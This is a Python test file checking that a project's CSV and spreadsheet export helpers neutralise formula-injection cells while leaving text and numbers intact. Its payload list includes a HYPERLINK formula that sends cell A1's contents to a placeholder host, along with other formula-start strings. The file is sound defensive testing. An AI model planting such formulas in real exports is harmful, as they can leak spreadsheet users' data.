"""No export emits a cell a spreadsheet would execute (CSV injection)."""

from __future__ import annotations

import csv
import io

import pandas as pd

from bridgeway.core.spreadsheet import safe_cell, safe_frame, safe_row
from bridgeway.outcomes.exports import to_csv

PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]


def test_every_formula_start_is_neutralised_and_plain_text_is_not() -> None:
    assert all(safe_cell(p) == "'" + p for p in PAYLOADS)
    assert safe_row(["Ann", "O'Brien", 3, -2, None, ""]) == ["Ann", "O'Brien", 3, -2, None, ""]


def test_the_outcomes_csv_export_carries_no_executable_cell() -> None:
    frame = pd.DataFrame({"note": PAYLOADS, "n": range(len(PAYLOADS)), "delta": [-1.5] * 6})
    body = to_csv(frame).decode()
    cells = [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]
    assert not [c for c in cells if c[:1] in "=+@\t\r" or (c[:1] == "-" and c != "-1.5")]
    assert "-1.5" in cells  # numbers stay numbers
    assert safe_frame(pd.DataFrame({"=x": [1]})).columns.tolist() == ["'=x"]
